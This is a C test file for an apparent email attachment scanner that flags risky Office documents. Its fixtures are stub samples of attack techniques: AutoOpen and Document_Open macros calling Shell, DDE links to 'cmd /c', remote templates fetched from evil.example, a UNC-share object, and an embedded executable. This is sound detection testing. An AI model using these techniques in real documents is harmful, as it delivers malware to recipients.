/* test_attach_office.c - Office documents: macros, what starts by itself, what is fetched, what is
 * locked, what is packed inside. */
#include "base/limits.h"
#include "examined.h"
#include "forge.h"
#include "ole.h"
#include "parse/mail.h"
#include "vba.h"

#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

#define DOCX "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
#define XLSX "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

/* --- VBA compression --- */

/* The examples of [MS-OVBA] 3.2. */
static const struct {
    const char *plain;
    struct str packed;
} examples[] = {
    {"abcdefghijklmnopqrstuv.",
     {"\x01\x19\xB0\x00\x61\x62\x63\x64\x65\x66\x67\x68\x00\x69\x6A\x6B\x6C\x6D\x6E\x6F\x70\x00\x71"
      "\x72\x73\x74\x75\x76\x2E",
      29}},
    {"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
     {"\x01\x2F\xB0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68\x69\x6A\x01\x38"
      "\x08\x61\x6B\x6C\x00\x30\x6D\x6E\x6F\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10\x77"
      "\x78\x79\x7A\x00\x3C",
      51}},
    {"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
     {"\x01\x03\xB0\x02\x61\x45\x00", 7}},
};

static void the_examples_of_the_specification_unpack(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(examples); i++) {
        struct buf out;

        buf_init(&out, KIB(64));
        assert_true(vba_decompress(examples[i].packed, &out));
        assert_string_equal(buf_c(&out), examples[i].plain);
        for (size_t cut = 0; cut < examples[i].packed.len; cut++) {
            buf_clear(&out);
            (void)vba_decompress(str_part(examples[i].packed, 0, cut), &out);
            assert_true(out.len <= strlen(examples[i].plain));
        }
        buf_dispose(&out);
    }
}

static void a_container_that_points_before_its_beginning_is_refused(void **state)
{
    static const char packed[] = "\x01\x03\xB0\x01\x00\xf0\x61";
    struct buf out;

    (void)state;
    buf_init(&out, KIB(64));
    assert_false(vba_decompress((struct str){packed, 7}, &out));
    assert_int_equal(out.len, 0);
    buf_dispose(&out);
}

/* --- OLE2 --- */

static void streams_come_out_as_they_went_in(void **state)
{
    char big[10000];
    struct forge_file streams[] = {
        {"One", {"first", 5}}, {"A/B/Two", {big, sizeof(big)}}, {"A/Three", {"", 0}}};
    struct buf file, out;
    struct ole ole;
    int folder;

    (void)state;
    for (size_t i = 0; i < sizeof(big); i++)
        big[i] = (char)(i * 7);
    buf_init(&file, MIB(1));
    buf_init(&out, MIB(1));
    forge_ole(&file, streams, ARRAY_LEN(streams));
    assert_true(ole_open(&ole, buf_as_str(&file)));
    assert_int_equal(ole.count, 8); /* a sector of entries is full of them */
    folder = ole_find(&ole, ole_find(&ole, 0, "a"), "B");
    assert_int_not_equal(folder, OLE_NONE);
    assert_int_equal(ole_find(&ole, 0, "Two"), OLE_NONE);
    ole_read(&ole, &ole.entries[ole_find(&ole, folder, "Two")], MIB(1), &out);
    assert_true(str_equal(buf_as_str(&out), streams[1].bytes));
    buf_clear(&out);
    ole_read(&ole, &ole.entries[ole_find(&ole, 0, "One")], 3, &out);
    assert_string_equal(buf_c(&out), "fir");
    ole_dispose(&ole);
    buf_dispose(&file);
    buf_dispose(&out);
}

/* A project with one module. */
static void put_project(struct buf *directory, struct buf *module, const char *source)
{
    struct buf plain;

    buf_init(&plain, KIB(4));
    forge_number(&plain, 0x09, 2); /* its length is a lie, and the specification says so */
    forge_number(&plain, 4, 4);
    forge_number(&plain, 1, 4 + 2);
    forge_number(&plain, 0x1a, 2);
    forge_number(&plain, 4, 4);
    buf_text(&plain, "Mod1");
    forge_number(&plain, 0x31, 2);
    forge_number(&plain, 4, 4);
    forge_number(&plain, 6, 4);
    buf_init(directory, KIB(64));
    buf_char(directory, 1);
    forge_number(directory, (plain.len - 1 + (plain.len + 7) / 8) | 0xb000, 2);
    for (size_t i = 0; i < plain.len; i++) {
        if (i % 8 == 0)
            buf_char(directory, '\0');
        buf_char(directory, plain.at[i]);
    }
    buf_init(module, KIB(64));
    buf_text(module, "p-code");
    forge_vba(module, source);
    buf_dispose(&plain);
}

static void macros_are_found_and_empty_projects_are_not(void **state)
{
    static const struct {
        const char *source;
        uint32_t traits;
        const char *detail;
    } cases[] = {
        {"Attribute VB_Name = \"ThisDocument\"\r\nOption Explicit\r\n' nothing\r\n", PART_OLE, ""},
        {"Attribute VB_Name = \"Mod1\"\r\nSub Tidy()\r\nEnd Sub\r\n", PART_OLE | PART_MACROS,
         "VBA macros"},
        {"Attribute VB_Name = \"Mod1\"\r\nprivate sub AUTOOPEN()\r\nShell \"x\"\r\nEnd Sub\r\n",
         PART_OLE | PART_MACROS | PART_AUTORUN, "AUTOOPEN; VBA macros"},
        {"Attribute VB_Name = \"Mod1\"\r\nSub _\r\n  Workbook_Open()\r\nEnd Sub\r\n",
         PART_OLE | PART_MACROS | PART_AUTORUN, "Workbook_Open; VBA macros"},
        {"Attribute VB_Name = \"Mod1\"\r\nSub MyAutoOpen()\r\nEnd Sub\r\n", PART_OLE | PART_MACROS,
         "VBA macros"},
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct buf directory, module, file;
        struct forge_file streams[3];

        put_project(&directory, &module, cases[i].source);
        streams[0] = (struct forge_file){"WordDocument", {"\xec\xa5", 2}};
        streams[1] = (struct forge_file){"Macros/VBA/dir", buf_as_str(&directory)};
        streams[2] = (struct forge_file){"Macros/VBA/Mod1", buf_as_str(&module)};
        buf_init(&file, MIB(1));
        forge_ole(&file, streams, 3);
        assert_examined("a.doc", buf_as_str(&file), cases[i].traits, cases[i].detail,
                        "application/msword");
        buf_dispose(&directory);
        buf_dispose(&module);
        buf_dispose(&file);
    }
}

static void macros_without_a_usable_directory_are_found_too(void **state)
{
    struct forge_file streams[2] = {{"_VBA_PROJECT_CUR/VBA/dir", {"garbage", 7}}};
    struct buf module, file;

    (void)state;
    buf_init(&module, KIB(64));
    buf_text(&module, "p-code p-code");
    forge_vba(&module, "Attribute VB_Name = \"Mod1\"\r\nSub Auto_Open()\r\nEnd Sub\r\n");
    streams[1] = (struct forge_file){"_VBA_PROJECT_CUR/VBA/Mod1", buf_as_str(&module)};
    buf_init(&file, MIB(1));
    forge_ole(&file, streams, 2);
    assert_examined("a.xls", buf_as_str(&file), PART_OLE | PART_MACROS | PART_AUTORUN,
                    "Auto_Open; VBA macros", NULL);
    buf_clear(&file);
    forge_ole(&file, streams, 1); /* its modules were removed: who knows what they were */
    assert_examined("a.xls", buf_as_str(&file), PART_OLE | PART_MACROS, "VBA macros", NULL);
    buf_dispose(&module);
    buf_dispose(&file);
}

static void old_documents_say_that_they_are_locked(void **state)
{
    static const struct {
        struct forge_file stream;
        const char *detail, *type;
    } cases[] = {
        {{"WordDocument", {"\xec\xa5\0\0\0\0\0\0\0\0\0\1", 12}},
         "encrypted Word document",
         "application/msword"},
        {{"Workbook", {"\x09\x08\4\0\0\6\5\0\x2f\0\2\0\0\0", 14}},
         "encrypted workbook",
         "application/vnd.ms-excel"},
        {{"Current User", {"\0\0\xf6\x0f\x14\0\0\0\x14\0\0\0\xdf\xc4\xd1\xf3", 16}},
         "encrypted presentation",
         NULL},
        {{"EncryptedPackage", {"x", 1}}, "encrypted Office document", "application/encrypted"},
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct buf file;

        buf_init(&file, MIB(1));
        forge_ole(&file, &cases[i].stream, 1);
        assert_examined("a.doc", buf_as_str(&file), PART_OLE | PART_ENCRYPTED, cases[i].detail,
                        cases[i].type);
        buf_dispose(&file);
    }
}

static void excel_4_macros_are_found(void **state)
{
    /* BOF; a sheet of macros; the built-in name 1, which is Auto_Open */
    static const char book[] = "\x09\x08\4\0\0\6\5\0"
                               "\x85\0\x0a\0\0\0\0\0\0\1\2\0AB"
                               "\x18\0\x10\0\x20\0\0\1\0\0\0\0\0\0\0\0\0\0\0\1";
    static const char link[] = "\x09\x08\4\0\0\6\5\0\xae\1\x0c\0\1\0\7\0\0cmd\3/ca";
    struct buf file;

    (void)state;
    buf_init(&file, MIB(1));
    forge_ole(&file, &(struct forge_file){"Workbook", {book, sizeof(book) - 1}}, 1);
    assert_examined("a.xls", buf_as_str(&file), PART_OLE | PART_MACROS | PART_AUTORUN,
                    "Excel 4 macro sheet; Auto_Open", "application/vnd.ms-excel");
    buf_clear(&file);
    forge_ole(&file, &(struct forge_file){"Workbook", {link, sizeof(link) - 1}}, 1);
    assert_examined("a.xls", buf_as_str(&file), PART_OLE | PART_AUTORUN, "DDE link", NULL);
    buf_dispose(&file);
}

static void what_is_packed_inside_is_looked_at(void **state)
{
    struct buf package, file, rtf;

    (void)state;
    buf_init(&package, KIB(64));
    buf_init(&file, MIB(1));
    buf_init(&rtf, MIB(1));
    forge_package(&package, "calc.exe", forge_program());
    forge_ole(&file, &(struct forge_file){"ObjectPool/_1/\1Ole10Native", buf_as_str(&package)}, 1);
    assert_examined("a.doc", buf_as_str(&file), PART_OLE | PART_PROGRAM,
                    "embedded object; calc.exe: .exe file; calc.exe: Windows program", NULL);
    buf_text(&rtf, "{\\rtf1{\\object\\objemb{\\*\\objdata 01050000 02000000 08000000 "
                   "5061636b61676500 00000000 00000000 ");
    buf_hex(&rtf,
            (unsigned char[]){(unsigned char)(package.len - 4),
                              (unsigned char)((package.len - 4) >> 8), 0, 0},
            4);
    buf_text(&rtf, "\r\n\\x{\\y}");
    buf_hex(&rtf, package.at + 4, package.len - 4);
    buf_text(&rtf, "}}}");
    assert_examined("a.rtf", buf_as_str(&rtf), PART_OLE | PART_PROGRAM,
                    "embedded object Package; calc.exe: .exe file; calc.exe: Windows program",
                    "application/rtf");
    buf_clear(&rtf);
    buf_text(&rtf, "{\\rtf1{\\*\\template http://evil.example/a.dot}}");
    assert_examined("a.rtf", buf_as_str(&rtf), PART_REMOTE_TEMPLATE,
                    "template http://evil.example/a.dot", NULL);
    buf_dispose(&package);
    buf_dispose(&file);
    buf_dispose(&rtf);
}

static void a_message_in_a_file_is_opened(void **state)
{
    static const char name[] = "a\0.\0e\0x\0e\0";
    struct forge_file streams[] = {
        {"__properties_version1.0", {"x", 1}},
        {"__attach_version1.0_#00000000/__substg1.0_3707001F", {name, 10}},
        {"__attach_version1.0_#00000000/__substg1.0_37010102", forge_program()},
    };
    struct buf file;

    (void)state;
    buf_init(&file, MIB(1));
    forge_ole(&file, streams, ARRAY_LEN(streams));
    assert_examined("a.msg", buf_as_str(&file), PART_OLE | PART_PROGRAM,
                    "a.exe: .exe file; a.exe: Windows program", "application/vnd.ms-outlook");
    buf_dispose(&file);
}

static void an_installer_is_a_program(void **state)
{
    static const char class_id[] = "\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0F";
    struct buf file;

    (void)state;
    buf_init(&file, MIB(1));
    forge_ole(&file, &(struct forge_file){"Table", {"x", 1}}, 1);
    memcpy(file.at + file.len - 512 + 80, class_id, 16); /* of the root, in the last sector */
    assert_examined("a.pdf", buf_as_str(&file), PART_OLE | PART_PROGRAM | PART_MISMATCH,
                    "Windows installer; named .pdf, really OLE2 document", "application/x-msi");
    buf_dispose(&file);
}

/* --- packages --- */

#define TYPES                                                                                      \
    {                                                                                              \
        "[Content_Types].xml",                                                                     \
        {                                                                                          \
            "<Types/>", 8                                                                          \
        }                                                                                          \
    }
#define RELS "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define STR(s)                                                                                     \
    {                                                                                              \
        s, sizeof(s) - 1                                                                           \
    }

static const struct {
    const char *what, *name;
    struct forge_file files[4];
    uint32_t traits;
    const char *detail, *type;
} packages[] = {
    {"plain", "a.docx", {TYPES, {"word/document.xml", STR("<w:document/>")}}, 0, "", DOCX},
    {"plain, named zip",
     "a.zip",
     {TYPES, {"word/document.xml", STR("<w:document/>")}},
     0,
     "",
     DOCX},
    {"links to click on and pictures",
     "a.docx",
     {TYPES,
      {"word/document.xml", STR("<w:document/>")},
      {"word/_rels/document.xml.rels",
       STR("<Relationships><Relationship Id=\"1\" Type=\"" RELS "hyperlink\" "
           "Target=\"https://a.example/\" TargetMode=\"External\"/><Relationship Id=\"2\" Type=\"" RELS
           "attachedTemplate\" Target=\"file:///C:\\Users\\x\\Normal.dotm\" "
           "TargetMode=\"External\"/></Relationships>")}},
     0,
     "",
     DOCX},
    {"a template from afar",
     "a.docx",
     {TYPES,
      {"word/document.xml", STR("<w:document/>")},
      {"word/_rels/settings.xml.rels",
       STR("<Relationships><Relationship Target='&#104;ttps://evil.example/x.dotm' Id='1' "
           "TargetMode='External' Type='" RELS "attachedTemplate'/></Relationships>")}},
     PART_REMOTE_TEMPLATE,
     "attachedTemplate https://evil.example/x.dotm",
     DOCX},
    {"an object from a share",
     "a.xlsx",
     {TYPES,
      {"xl/workbook.xml", STR("<workbook/>")},
      {"xl/worksheets/_rels/sheet1.xml.rels",
       STR("<Relationship Id=\"1\" Type=\"" RELS "oleObject\" "
           "Target=\"file:///\\\\198.51.100.7\\s\\y.doc\" TargetMode=\"External\"/>")}},
     PART_REMOTE_TEMPLATE,
     "oleObject file:///\\\\198.51.100.7\\s\\y.doc",
     XLSX},
    {"DDE in pieces",
     "a.docx",
     {TYPES,
      {"word/document.xml",
       STR("<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText> DDE</w:instrText></w:r><w:r>"
           "<w:instrText xml:space=\"preserve\">AUTO c:\\\\a</w:instrText></w:p>")}},
     PART_AUTORUN,
     "DDE field",
     DOCX},
    {"fields that are not DDE",
     "a.docx",
     {TYPES,
      {"word/document.xml",
       STR("<w:instrText>MERGEFIELD Added</w:instrText><w:t>DDE is old</w:t>")}},
     0,
     "",
     DOCX},
    {"a DDE link",
     "a.xlsx",
     {TYPES,
      {"xl/workbook.xml", STR("<workbook/>")},
      {"xl/externalLinks/externalLink1.xml",
       STR("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c a\"/>")}},
     PART_AUTORUN,
     "DDE link",
     XLSX},
    {"Excel 4 macros",
     "a.xlsm",
     {TYPES,
      {"xl/workbook.xml",
       STR("<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">x</definedName>")},
      {"xl/macrosheets/sheet1.xml", STR("<xm:macrosheet/>")}},
     PART_AUTORUN | PART_MACROS,
     "Auto_Open; Excel 4 macro sheet",
     XLSX},
    {"a program beside",
     "a.docx",
     {TYPES, {"word/document.xml", STR("<w:document/>")}, {"run.exe", STR("x")}},
     PART_PROGRAM,
     "run.exe: .exe file",
     DOCX},
    {"OpenDocument",
     "a.odt",
     {{"mimetype", STR("application/vnd.oasis.opendocument.text")}, {"content.xml", STR("<x/>")}},
     0,
     "",
     "application/vnd.oasis.opendocument.text"},
    {"OpenDocument with macros, locked",
     "a.ods",
     {{"mimetype", STR("application/vnd.oasis.opendocument.spreadsheet")},
      {"Basic/Standard/Module1.xml", STR("<x/>")},
      {"META-INF/manifest.xml", STR("<manifest:encryption-data/>")}},
     PART_MACROS | PART_ENCRYPTED,
     "OpenDocument macros; encrypted OpenDocument",
     "application/vnd.oasis.opendocument.spreadsheet"},
};

static void packages_say_what_they_do(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(packages); i++) {
        struct buf file;
        size_t count = 0;

        while (count < 4 && packages[i].files[count].name)
            count++;
        buf_init(&file, MIB(1));
        forge_zip(&file, packages[i].files, count, false);
        assert_examined(packages[i].name, buf_as_str(&file), packages[i].traits, packages[i].detail,
                        packages[i].type);
        buf_dispose(&file);
    }
}

static void macros_in_a_package_are_read(void **state)
{
    struct buf directory, module, project, file;
    struct forge_file streams[2], files[3];

    (void)state;
    put_project(&directory, &module,
                "Attribute VB_Name = \"Mod1\"\r\nSub Document_Open()\r\nEnd Sub\r\n");
    streams[0] = (struct forge_file){"VBA/dir", buf_as_str(&directory)};
    streams[1] = (struct forge_file){"VBA/Mod1", buf_as_str(&module)};
    buf_init(&project, MIB(1));
    forge_ole(&project, streams, 2);
    files[0] = (struct forge_file)TYPES;
    files[1] = (struct forge_file){"word/document.xml", STR("<w:document/>")};
    files[2] = (struct forge_file){"word/vbaProject.bin", buf_as_str(&project)};
    buf_init(&file, MIB(1));
    forge_zip(&file, files, 3, false);
    assert_examined("a.docm", buf_as_str(&file), PART_OLE | PART_MACROS | PART_AUTORUN,
                    "VBA project; Document_Open; VBA macros", DOCX);
    buf_dispose(&directory);
    buf_dispose(&module);
    buf_dispose(&project);
    buf_dispose(&file);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_examples_of_the_specification_unpack),
        cmocka_unit_test(a_container_that_points_before_its_beginning_is_refused),
        cmocka_unit_test(streams_come_out_as_they_went_in),
        cmocka_unit_test(macros_are_found_and_empty_projects_are_not),
        cmocka_unit_test(macros_without_a_usable_directory_are_found_too),
        cmocka_unit_test(old_documents_say_that_they_are_locked),
        cmocka_unit_test(excel_4_macros_are_found),
        cmocka_unit_test(what_is_packed_inside_is_looked_at),
        cmocka_unit_test(a_message_in_a_file_is_opened),
        cmocka_unit_test(an_installer_is_a_program),
        cmocka_unit_test(packages_say_what_they_do),
        cmocka_unit_test(macros_in_a_package_are_read),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
